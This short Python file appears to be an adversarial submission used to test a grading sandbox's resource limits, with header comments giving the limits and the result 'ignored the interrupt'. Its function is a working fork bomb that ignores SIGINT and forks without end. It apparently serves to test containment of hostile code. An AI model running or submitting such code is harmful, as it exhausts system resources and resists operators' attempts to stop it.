# Tries: a fork bomb that ignores interrupts
# Limits: question_seconds=1, processes=16, submission_seconds=60
# Told: ignored the interrupt
import os
import signal
def apply(f, x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            pass
